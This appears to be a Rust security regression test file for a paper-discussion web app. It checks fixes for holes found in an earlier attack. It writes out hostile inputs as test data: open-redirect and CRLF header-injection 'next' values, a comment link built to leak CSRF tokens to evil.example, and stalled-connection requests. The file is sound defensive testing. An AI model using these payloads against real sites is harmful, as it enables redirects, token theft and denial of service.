//! The holes an independent attack on a running instance found (issue 16), each attacked
//! again: every test here failed before its fix.

use crate::community::{account, api_token, bearer, community_server, generous, listed_paper, PASSWORD};
use crate::support::browser::Browser;
use crate::support::TestServer;

/// axum's default request body limit.
const BODY_LIMIT: usize = 2 * 1024 * 1024;

fn server() -> Option<TestServer> {
    community_server(generous(), None)
}

/// Signs `name` in through the form with `next`, returning where the site sends them.
fn sign_in_to(server: &TestServer, name: &str, next: &str) -> (u16, Option<String>) {
    let mut browser = Browser::new(&server.base_url);
    let csrf = browser.get("/signin").csrf();
    let reply = browser.post(
        "/signin",
        &[("csrf", &csrf), ("login", name), ("password", PASSWORD), ("next", next)],
    );
    (reply.status, reply.location)
}

#[test]
fn sign_in_never_redirects_to_another_site_nor_fails_on_a_bad_next() {
    let Some(server) = server() else { return };
    account(&server, "ana_l", false);
    assert_eq!(
        sign_in_to(&server, "ana_l", "/date/2026-05-01?category=cs.CV"),
        (303, Some("/date/2026-05-01?category=cs.CV".into())),
        "a path on this site is followed"
    );
    // Browsers drop tabs and newlines from URLs and read `\` as `/`: each of these would
    // become `//evil.example`, another site. Control characters used to answer 500 after the
    // session had been created.
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\\evil.example",
        "//evil.example",
        "/\r\nSet-Cookie: x=1",
        "/\0",
        "https://evil.example/",
    ] {
        assert_eq!(sign_in_to(&server, "ana_l", next), (303, Some("/".into())), "{next:?}");
    }
}

#[test]
fn text_in_a_comment_cannot_make_pages_reveal_a_viewers_csrf_token() {
    let Some(server) = server() else { return };
    let (id, _) = listed_paper(&server);
    let mut ana = bearer(&server, &api_token(&server, account(&server, "ana_l", false)));
    for body in [
        "[win a prize](https://evil.example/?t=__PAPERBOY_CSRF__)",
        "<!--paperboy-csrf--> and `<!--paperboy-csrf-->`",
    ] {
        let reply = ana.json(
            "POST",
            &format!("/api/papers/{id}/comments"),
            Some(serde_json::json!({ "body": body })),
        );
        assert_eq!(reply.status, 201, "{}", reply.body);
    }
    account(&server, "bob_b", false);
    let mut bob = Browser::new(&server.base_url);
    assert_eq!(bob.sign_in("bob_b", PASSWORD).status, 303);
    let page = bob.get(&format!("/papers/{id}")).body;
    let token = bob.page_csrf("/settings");
    let fields = page.matches(&format!("name=\"csrf\" value=\"{token}\"")).count();
    assert_eq!(
        page.matches(token.as_str()).count(),
        fields,
        "the token appears only in the page's own form fields"
    );
    assert!(!page.contains(&format!("evil.example/?t={token}")));
    assert!(
        page.contains("__PAPERBOY_CSRF__"),
        "the comment's text is shown as written"
    );
}

#[test]
fn a_hidden_comment_can_be_neither_edited_nor_replied_to() {
    let Some(server) = server() else { return };
    let (id, _) = listed_paper(&server);
    account(&server, "ana_l", false);
    account(&server, "root_a", true);
    let mut ana = Browser::new(&server.base_url);
    ana.sign_in("ana_l", PASSWORD);
    let csrf = ana.page_csrf("/settings");
    let posted = ana.post(
        &format!("/papers/{id}/comments"),
        &[("csrf", &csrf), ("body", "spam spam")],
    );
    let comment: i64 = posted.location.unwrap().rsplit("#c").next().unwrap().parse().unwrap();

    let mut admin = Browser::new(&server.base_url);
    admin.sign_in("root_a", PASSWORD);
    let admin_csrf = admin.page_csrf("/admin");
    let hidden = admin.post(&format!("/admin/comments/{comment}/hide"), &[("csrf", &admin_csrf)]);
    assert_eq!(hidden.status, 303);

    // Rewriting it would publish text the moderator never saw once it is unhidden.
    let edit = ana.post(
        &format!("/comments/{comment}/edit"),
        &[("csrf", &csrf), ("body", "something else entirely")],
    );
    assert_eq!(edit.status, 403, "{}", edit.body);
    assert_eq!(ana.get(&format!("/comments/{comment}/edit")).status, 403);
    let parent = comment.to_string();
    let reply = ana.post(
        &format!("/papers/{id}/comments"),
        &[("csrf", &csrf), ("body", "a reply"), ("parent", &parent)],
    );
    assert_eq!(reply.status, 400, "{}", reply.body);
    let page = ana.get(&format!("/papers/{id}")).body;
    assert!(!page.contains("a reply") && !page.contains("something else entirely"));
    assert!(page.contains("[hidden by a moderator]"));
    // Its author may still delete it.
    let deleted = ana.post(&format!("/comments/{comment}/delete"), &[("csrf", &csrf)]);
    assert_eq!(deleted.status, 303);
}

#[test]
fn errors_from_outside_the_handlers_come_in_the_apps_format() {
    let Some(server) = server() else { return };
    let ana_id = account(&server, "ana_l", false);
    let mut ana = Browser::new(&server.base_url);
    ana.sign_in("ana_l", PASSWORD);
    let csrf = ana.page_csrf("/settings");
    let is_page = |reply: &crate::support::browser::Response| {
        reply.header("content-type").is_some_and(|t| t.starts_with("text/html")) && reply.body.contains("<html")
    };
    let is_json_error = |reply: &crate::support::browser::Response, status: u16| {
        reply.header("content-type") == Some("application/json")
            && reply.json()["status"] == status
            && reply.json()["error"].as_str().is_some_and(|e| !e.is_empty())
    };

    // A path parameter that does not parse.
    let bad_path = ana.post("/comments/not-a-number/delete", &[("csrf", &csrf)]);
    assert_eq!(bad_path.status, 400);
    assert!(is_page(&bad_path), "{}", bad_path.body);
    // A method the path does not take: a page, and `Allow` says what it does take.
    let wrong_method = ana.json("DELETE", "/signin", None);
    assert_eq!(wrong_method.status, 405);
    assert!(is_page(&wrong_method), "{}", wrong_method.body);
    assert!(wrong_method.header("allow").is_some_and(|a| a.contains("POST")));
    let api_method = ana.json("PUT", "/api/trending", None);
    assert_eq!(api_method.status, 405);
    assert!(is_json_error(&api_method, 405), "{}", api_method.body);
    // Bodies one byte over the limit, for a form and for the API (one byte, so that the
    // server has read the whole body when it answers: no reset races the answer).
    let filler = |overhead: usize| "x".repeat(BODY_LIMIT + 1 - overhead);
    let form_overhead = "csrf=".len() + csrf.len() + "&login=".len();
    let form = ana.post("/signin", &[("csrf", &csrf), ("login", &filler(form_overhead))]);
    assert_eq!(form.status, 413);
    assert!(is_page(&form), "{}", form.body);
    let mut api = bearer(&server, &api_token(&server, ana_id));
    let (id, _) = listed_paper(&server);
    let body = serde_json::json!({ "body": filler(r#"{"body":""}"#.len()) });
    let api_huge = api.json("POST", &format!("/api/papers/{id}/comments"), Some(body));
    assert_eq!(api_huge.status, 413);
    assert!(is_json_error(&api_huge, 413), "{}", api_huge.body);
    // A form body where the handler wants a form.
    let mut digest_manage = Browser::new(&server.base_url);
    let wrong_type = digest_manage.json("POST", "/subscribe/manage?token=x", Some(serde_json::json!({})));
    assert!(matches!(wrong_type.status, 404 | 415), "{}", wrong_type.status);
    assert!(is_page(&wrong_type), "{}", wrong_type.body);
    // An address the API does not have.
    let unknown = api.json("GET", "/api/no-such-thing", None);
    assert_eq!(unknown.status, 404);
    assert!(is_json_error(&unknown, 404), "{}", unknown.body);
    // Every one still carries the security headers.
    for reply in [&bad_path, &wrong_method, &form, &api_huge, &unknown] {
        assert!(reply.header("content-security-policy").is_some());
    }
}

#[test]
fn requests_that_change_nothing_shown_keep_the_page_cache() {
    let Some(server) = server() else { return };
    let mut reader = Browser::new(&server.base_url);
    let counts = |reader: &mut Browser| {
        let metrics = reader.get("/metrics").body;
        let value = |name: &str| -> u64 {
            let line = metrics.lines().find(|l| l.starts_with(name)).unwrap();
            line.rsplit(' ').next().unwrap().parse().unwrap()
        };
        (
            value("paperboy_page_cache_hits_total"),
            value("paperboy_page_cache_misses_total"),
        )
    };
    reader.get("/date/2026-05-01");
    reader.get("/date/2026-05-01");
    let before = counts(&mut reader);
    // Anyone may sign out (it needs no account): it used to empty every cache.
    let mut visitor = Browser::new(&server.base_url);
    for _ in 0..20 {
        let csrf = visitor.get("/signin").csrf();
        assert_eq!(visitor.post("/signout", &[("csrf", &csrf)]).status, 303);
    }
    reader.get("/date/2026-05-01");
    let after = counts(&mut reader);
    assert_eq!(after.1, before.1, "no page was rendered again");
    assert_eq!(after.0, before.0 + 1, "served from the cache");
}

#[test]
fn a_password_change_ends_api_tokens_too() {
    let Some(server) = server() else { return };
    let (id, _) = listed_paper(&server);
    let ana_id = account(&server, "ana_l", false);
    let token = api_token(&server, ana_id);
    let mut script = bearer(&server, &token);
    assert_eq!(
        script.json("POST", &format!("/api/papers/{id}/upvote"), None).status,
        200
    );
    let mut ana = Browser::new(&server.base_url);
    ana.sign_in("ana_l", PASSWORD);
    let csrf = ana.page_csrf("/settings");
    let changed = ana.post(
        "/settings/password",
        &[
            ("csrf", &csrf),
            ("current", PASSWORD),
            ("password", "another long passphrase"),
        ],
    );
    assert_eq!(changed.status, 303);
    // Whoever had the account's password may have made a token: it goes with the password.
    assert_eq!(
        script.json("DELETE", &format!("/api/papers/{id}/upvote"), None).status,
        401
    );
}

#[test]
fn subscribing_one_mailbox_again_and_again_is_limited() {
    use paperboy_testkit::SmtpSink;
    let Some(data) = crate::support::shared_data() else {
        return;
    };
    let sink = SmtpSink::start();
    let server = TestServer::with_data_and_mail(&[data.join("hf-daily/2026-05-01.json")], &sink.url());
    let mut visitor = Browser::new(&server.base_url);
    let mut statuses = Vec::new();
    for _ in 0..7 {
        let csrf = visitor.get("/").csrf();
        let reply = visitor.post(
            "/subscribe",
            &[("csrf", &csrf), ("email", "victim@example.org"), ("frequency", "daily")],
        );
        statuses.push(reply.status);
    }
    // Each accepted request mails a confirmation: five an hour, then 429 with Retry-After.
    assert_eq!(statuses, [200, 200, 200, 200, 200, 429, 429]);
    let mails = sink.wait_for(5, std::time::Duration::from_secs(20));
    assert_eq!(mails.len(), 5, "no mail for a refused request");
}

/// Sign-ins limited to 5 a window (per address for attempts, per account for failures),
/// counted in this process or, with `counters`, in that PostgreSQL database; clients are told
/// apart by `X-Forwarded-For`, as behind a proxy.
fn lockout_server(counters: Option<&paperboy_testkit::TestStore>) -> Option<TestServer> {
    use std::sync::Arc;
    use std::time::Duration;
    let data = crate::support::shared_data()?;
    let shared = counters.map(|c| paperboy_store::PostgresStore::connect(c.database_url().unwrap()).unwrap());
    Some(TestServer::with_data_and(
        &[data.join("hf-daily/2026-05-01.json")],
        move |state, _| {
            let settings = paperboy_web::CommunitySettings {
                trust_forwarded_for: true,
                ..Default::default()
            };
            let limits = paperboy_accounts::Limits {
                sign_in: (5, Duration::from_secs(900)),
                ..generous()
            };
            let state = state.with_community(settings, limits);
            match shared {
                Some(store) => state.with_shared_rate_limits(Arc::new(store)),
                None => state,
            }
        },
    ))
}

/// A browser whose requests come from `address` (through the trusted proxy).
fn browser_at(server: &TestServer, address: &str) -> Browser {
    let mut browser = Browser::new(&server.base_url);
    browser.headers.push(("x-forwarded-for".into(), address.into()));
    browser
}

/// Counted in memory, then (with a test database) in PostgreSQL as instances share them.
fn lockout_servers() -> Vec<(TestServer, Option<paperboy_testkit::TestStore>)> {
    let mut servers = Vec::new();
    let Some(memory) = lockout_server(None) else {
        return servers;
    };
    servers.push((memory, None));
    if paperboy_testkit::every_store().contains(&paperboy_testkit::StoreKind::Postgres) {
        let counters = paperboy_testkit::TestStore::new(paperboy_testkit::StoreKind::Postgres);
        let server = lockout_server(Some(&counters)).unwrap();
        servers.push((server, Some(counters)));
    }
    servers
}

#[test]
fn strangers_failing_cannot_lock_the_owner_out() {
    for (server, _counters) in lockout_servers() {
        account(&server, "ana_l", false);
        // Five wrong guesses from two addresses: the account is at its limit.
        for (address, guesses) in [("198.51.100.1", 3), ("198.51.100.2", 2)] {
            let mut attacker = browser_at(&server, address);
            for _ in 0..guesses {
                assert_eq!(attacker.sign_in("ana_l", "a wrong guess!").status, 401);
            }
        }
        // The owner, from an address that has not failed, gets in (it used to be 429)...
        let mut owner = browser_at(&server, "203.0.113.5");
        let signed_in = owner.sign_in("ana_l", PASSWORD);
        assert_eq!(signed_in.status, 303, "{}", signed_in.body);
        // ...and can change the password, whatever others failed for the name.
        let csrf = owner.page_csrf("/settings");
        let changed = owner.post(
            "/settings/password",
            &[
                ("csrf", &csrf),
                ("current", PASSWORD),
                ("password", "another long passphrase"),
            ],
        );
        assert_eq!(changed.status, 303, "{}", changed.body);
        // A guessing address is refused even the right password while the account is over
        // its limit (its own attempts, 4 of 5, are not what stops it).
        let refused = browser_at(&server, "198.51.100.1").sign_in("ana_l", "another long passphrase");
        assert_eq!(refused.status, 429, "{}", refused.body);
        let retry: u64 = refused.header("retry-after").unwrap().parse().unwrap();
        assert!(retry > 0 && retry <= 900, "{retry}");
        // A new address guessing wrong is refused too, not told "wrong password".
        assert_eq!(
            browser_at(&server, "198.51.100.3")
                .sign_in("ana_l", "a wrong guess!")
                .status,
            429
        );
        // Attempts per address still stop one address trying many accounts.
        let mut sprayer = browser_at(&server, "198.51.100.9");
        let statuses: Vec<u16> = (0..6)
            .map(|i| sprayer.sign_in(&format!("name_{i}"), "a wrong guess!").status)
            .collect();
        assert_eq!(statuses, [401, 401, 401, 401, 401, 429]);
    }
}

#[test]
fn failures_by_name_and_by_email_fill_one_bucket_and_unknown_logins_answer_alike() {
    for (server, _counters) in lockout_servers() {
        account(&server, "ana_l", false);
        let mut answers = Vec::new();
        for (round, name, email) in [
            (1, "ana_l", "ana_l@example.org"),
            (2, "nobody_here", "nobody_here@example.org"),
        ] {
            let mut by_name = browser_at(&server, &format!("198.51.{round}.1"));
            let mut by_email = browser_at(&server, &format!("198.51.{round}.2"));
            let mut seen: Vec<u16> = (0..3).map(|_| by_name.sign_in(name, "a wrong guess!").status).collect();
            seen.extend((0..2).map(|_| by_email.sign_in(email, "a wrong guess!").status));
            // Five failures for the account, by name and by email: the next guess is refused
            // (with one bucket per spelling, the name had three and would allow it).
            seen.push(
                browser_at(&server, &format!("198.51.{round}.3"))
                    .sign_in(name, "a wrong guess!")
                    .status,
            );
            answers.push(seen);
        }
        assert_eq!(answers[0], [401, 401, 401, 401, 401, 429], "the account");
        // An unknown name counts alike, so answers do not tell whether an account exists
        // (its email cannot be tied to it, so here the email has a bucket of its own).
        assert_eq!(answers[1][..5], answers[0][..5], "an unknown login");
    }
}

/// `serve_until` over an empty store within `limits`, on a runtime of its own; stopped (as
/// Ctrl-C would) when dropped.
struct EdgeServer {
    address: std::net::SocketAddr,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
    _data: paperboy_testkit::TestStore,
}

impl EdgeServer {
    fn start(limits: paperboy_web::EdgeLimits) -> EdgeServer {
        use std::sync::Arc;
        // What the edge does is the same on every store; SQLite also keeps the synchronous
        // PostgreSQL client from being dropped on a runtime thread, where it panics.
        let data = paperboy_testkit::TestStore::new(paperboy_testkit::StoreKind::Sqlite);
        let store: Arc<dyn paperboy_store::Backend> = Arc::from(data.open());
        let searcher = Arc::new(paperboy_search::Searcher::open(data.dir()).unwrap());
        let app = paperboy_web::router(paperboy_web::AppState::new(store, searcher));
        let (sender, receiver) = std::sync::mpsc::channel();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_multi_thread()
                .worker_threads(2)
                .enable_all()
                .build()
                .unwrap();
            runtime.block_on(async move {
                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                sender.send(listener.local_addr().unwrap()).unwrap();
                let shutdown = async {
                    let _ = stopped.await;
                };
                paperboy_web::serve_until(listener, app, limits, shutdown)
                    .await
                    .unwrap();
            });
        });
        EdgeServer {
            address: receiver.recv().unwrap(),
            stop: Some(stop),
            thread: Some(thread),
            _data: data,
        }
    }

    fn connect(&self) -> std::net::TcpStream {
        std::net::TcpStream::connect(self.address).unwrap()
    }
}

impl Drop for EdgeServer {
    fn drop(&mut self) {
        // serve_until returns once every connection has closed.
        if let (Some(stop), Some(thread)) = (self.stop.take(), self.thread.take()) {
            let _ = stop.send(());
            thread.join().unwrap();
        }
    }
}

/// Reads until the server closes `stream`, waiting at most `limit`: what it sent, and how
/// long the close took; an error when it is still open after `limit`.
fn read_until_closed(
    stream: &mut std::net::TcpStream,
    limit: std::time::Duration,
) -> Result<(String, std::time::Duration), String> {
    use std::io::Read;
    let started = std::time::Instant::now();
    let mut said = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        let left = limit.saturating_sub(started.elapsed());
        if left.is_zero() {
            return Err(format!(
                "still open after {limit:?}, having sent {:?}",
                String::from_utf8_lossy(&said)
            ));
        }
        stream.set_read_timeout(Some(left)).unwrap();
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(n) => said.extend_from_slice(&buffer[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break,
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => continue,
            Err(e) => return Err(e.to_string()),
        }
    }
    Ok((String::from_utf8_lossy(&said).into_owned(), started.elapsed()))
}

fn short_limits() -> paperboy_web::EdgeLimits {
    paperboy_web::EdgeLimits {
        header_timeout: std::time::Duration::from_secs(1),
        request_timeout: std::time::Duration::from_secs(2),
        max_connections: 64,
    }
}

#[test]
fn half_sent_and_idle_connections_are_closed_and_requests_still_served() {
    use std::io::Write;
    use std::time::Duration;
    let server = EdgeServer::start(short_limits());
    // Half a request line, then nothing: closed once the header timeout has passed (it
    // used to stay open for good).
    let mut stalled = server.connect();
    stalled.write_all(b"GET /healthz HT").unwrap();
    let (_, took) = read_until_closed(&mut stalled, Duration::from_secs(10)).unwrap();
    assert!(
        took >= Duration::from_millis(900),
        "closed after {took:?}, before its time"
    );
    assert!(took < Duration::from_secs(4), "closed after {took:?}");

    // A connection that never says anything goes the same way.
    let mut silent = server.connect();
    let (said, took) = read_until_closed(&mut silent, Duration::from_secs(10)).unwrap();
    assert!(took < Duration::from_secs(4), "closed after {took:?}");
    assert!(said.is_empty() || said.starts_with("HTTP/1.1 408"), "{said:?}");

    // A keep-alive connection is answered, then closed once idle.
    let mut idle = server.connect();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .unwrap();
    let (said, took) = read_until_closed(&mut idle, Duration::from_secs(10)).unwrap();
    assert!(said.starts_with("HTTP/1.1 200"), "{said}");
    assert!(!said.contains("connection: close"), "kept alive at first: {said}");
    assert!(took < Duration::from_secs(4), "closed after {took:?} idle");

    // Requests on one connection, one after the other, are all answered.
    let mut busy = server.connect();
    busy.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\nGET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        .unwrap();
    let (said, _) = read_until_closed(&mut busy, Duration::from_secs(10)).unwrap();
    assert_eq!(said.matches("HTTP/1.1 200").count(), 2, "{said}");
}

#[test]
fn a_request_whose_body_stalls_is_answered_503_in_the_apps_format() {
    use std::io::Write;
    use std::time::Duration;
    let server = EdgeServer::start(short_limits());
    let mut slow = server.connect();
    slow.write_all(
        b"POST /api/papers/2605.00001/comments HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"body\": ",
    )
    .unwrap();
    let (said, took) = read_until_closed(&mut slow, Duration::from_secs(10)).unwrap();
    assert!(said.starts_with("HTTP/1.1 503"), "{said}");
    assert!(said.contains("\"status\":503"), "JSON under /api: {said}");
    assert!(
        took >= Duration::from_millis(1900) && took < Duration::from_secs(5),
        "{took:?}"
    );
}

#[test]
fn connections_over_the_cap_wait_for_one_to_close() {
    use std::io::{Read, Write};
    use std::time::Duration;
    let server = EdgeServer::start(paperboy_web::EdgeLimits {
        max_connections: 1,
        ..short_limits()
    });
    let mut holding = server.connect();
    holding.write_all(b"GET /healthz HT").unwrap();
    let mut waiting = server.connect();
    waiting
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        .unwrap();
    let (said, _) = read_until_closed(&mut waiting, Duration::from_secs(10)).unwrap();
    assert!(said.starts_with("HTTP/1.1 200"), "{said}");
    // The second was served only once the first was closed (by its header timeout).
    holding.set_nonblocking(true).unwrap();
    let mut rest = Vec::new();
    match holding.read_to_end(&mut rest) {
        Ok(_) => {}
        Err(e) => assert_eq!(
            e.kind(),
            std::io::ErrorKind::ConnectionReset,
            "the first is still open: {e}"
        ),
    }
}

#[test]
fn stopping_closes_idle_connections_and_returns() {
    use std::io::Write;
    use std::time::Duration;
    // Timeouts far longer than the test: only the shutdown can close the connection.
    let mut server = EdgeServer::start(paperboy_web::EdgeLimits {
        header_timeout: Duration::from_secs(600),
        request_timeout: Duration::from_secs(600),
        max_connections: 8,
    });
    let mut idle = server.connect();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .unwrap();
    let mut head = [0u8; 12];
    std::io::Read::read_exact(&mut idle, &mut head).unwrap();
    assert_eq!(&head, b"HTTP/1.1 200");
    let _ = server.stop.take().unwrap().send(());
    let thread = server.thread.take().unwrap();
    let (done, finished) = std::sync::mpsc::channel();
    std::thread::spawn(move || done.send(thread.join().is_ok()).unwrap());
    assert_eq!(
        finished.recv_timeout(Duration::from_secs(10)),
        Ok(true),
        "serve_until returned"
    );
    read_until_closed(&mut idle, Duration::from_secs(10)).unwrap();
}
